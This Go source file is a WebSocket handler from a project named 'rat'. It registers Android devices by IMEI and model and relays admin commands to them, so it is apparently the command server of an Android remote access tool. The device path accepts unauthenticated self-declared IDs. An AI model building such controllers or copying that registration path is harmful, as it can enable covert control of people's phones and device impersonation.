package handler

import (
	"context"
	"encoding/json"

	"github.com/Sp1ker2/rat/internal/auth"
	"github.com/Sp1ker2/rat/internal/hub"
	"github.com/Sp1ker2/rat/internal/model"
	"github.com/gin-gonic/gin"
	"github.com/gorilla/websocket"
	"go.uber.org/zap"
)

// WSHandler handles WebSocket connections for devices (/ws/device) and
// admins (/ws/admin).
type WSHandler struct {
	hub      *hub.Hub
	verifier *auth.Verifier
	upgrader websocket.Upgrader
	maxMsg   int64
	logger   *zap.Logger
}

// NewWSHandler creates the WebSocket handler.
func NewWSHandler(h *hub.Hub, verifier *auth.Verifier, readBuf, writeBuf int, maxMsgSize int64, logger *zap.Logger) *WSHandler {
	return &WSHandler{
		hub:      h,
		verifier: verifier,
		upgrader: websocket.Upgrader{
			ReadBufferSize:  readBuf,
			WriteBufferSize: writeBuf,
			// Allow all origins for dev; in prod set CheckOrigin.
		},
		maxMsg: maxMsgSize,
		logger: logger,
	}
}

// ServeDevice upgrades the request and runs the device connection loop.
// The first message must be a register handshake carrying either device
// attributes or a pre-issued token; anything else closes the connection
// with a policy violation before any session state is created.
func (h *WSHandler) ServeDevice(c *gin.Context) {
	conn, err := h.upgrader.Upgrade(c.Writer, c.Request, nil)
	if err != nil {
		h.logger.Warn("device websocket upgrade failed", zap.Error(err))
		return
	}
	defer conn.Close()
	if h.maxMsg > 0 {
		conn.SetReadLimit(h.maxMsg)
	}

	ctx := context.Background()

	info, ok := h.deviceHandshake(ctx, conn)
	if !ok {
		return
	}

	if _, err := h.hub.ConnectDevice(ctx, info, conn); err != nil {
		h.logger.Error("device registration failed", zap.String("device_id", info.ID), zap.Error(err))
		closePolicy(conn, "registration failed")
		return
	}
	defer h.hub.DisconnectDevice(ctx, info.ID, conn)

	for {
		_, data, err := conn.ReadMessage()
		if err != nil {
			if websocket.IsUnexpectedCloseError(err, websocket.CloseGoingAway, websocket.CloseNormalClosure) {
				h.logger.Debug("device read error", zap.String("device_id", info.ID), zap.Error(err))
			}
			return
		}
		h.hub.HandleDeviceMessage(ctx, info.ID, data)
	}
}

// deviceHandshake reads and validates the registration message, resolving
// a token to its profile when one is presented instead of attributes.
func (h *WSHandler) deviceHandshake(ctx context.Context, conn *websocket.Conn) (model.DeviceInfo, bool) {
	var info model.DeviceInfo

	_, data, err := conn.ReadMessage()
	if err != nil {
		return info, false
	}
	var reg model.RegisterMessage
	if err := json.Unmarshal(data, &reg); err != nil || reg.Type != model.KindRegister {
		closePolicy(conn, "registration required")
		return info, false
	}

	switch {
	case reg.Token != "":
		dev, err := h.verifier.VerifyDeviceToken(ctx, reg.Token)
		if err != nil {
			closePolicy(conn, "invalid token")
			return info, false
		}
		info = model.DeviceInfo{
			ID:             dev.ID,
			Name:           dev.Name,
			IMEI:           dev.IMEI,
			Model:          dev.Model,
			Manufacturer:   dev.Manufacturer,
			AndroidVersion: dev.AndroidVersion,
			SDK:            dev.SDK,
		}
	case reg.DeviceInfo != nil && reg.DeviceInfo.ID != "":
		info = *reg.DeviceInfo
	default:
		closePolicy(conn, "registration required")
		return info, false
	}
	return info, true
}

// ServeAdmin upgrades the request and runs the admin observer loop. A
// valid admin session token is required as the token query parameter.
func (h *WSHandler) ServeAdmin(c *gin.Context) {
	token := c.Query("token")
	username := h.verifier.DecodeAdminToken(token)

	conn, err := h.upgrader.Upgrade(c.Writer, c.Request, nil)
	if err != nil {
		h.logger.Warn("admin websocket upgrade failed", zap.Error(err))
		return
	}
	defer conn.Close()

	if username == "" {
		closePolicy(conn, "invalid token")
		return
	}

	h.hub.ConnectAdmin(conn)
	defer h.hub.DisconnectAdmin(conn)

	ctx := context.Background()
	for {
		_, data, err := conn.ReadMessage()
		if err != nil {
			if websocket.IsUnexpectedCloseError(err, websocket.CloseGoingAway, websocket.CloseNormalClosure) {
				h.logger.Debug("admin read error", zap.String("username", username), zap.Error(err))
			}
			return
		}
		var cmd model.AdminCommand
		if err := json.Unmarshal(data, &cmd); err != nil || cmd.Type != "command" {
			continue
		}
		h.hub.SendCommand(ctx, cmd.DeviceID, model.Command{Command: cmd.Command, Data: cmd.Data})
	}
}

func closePolicy(conn *websocket.Conn, reason string) {
	msg := websocket.FormatCloseMessage(websocket.ClosePolicyViolation, reason)
	_ = conn.WriteMessage(websocket.CloseMessage, msg)
}
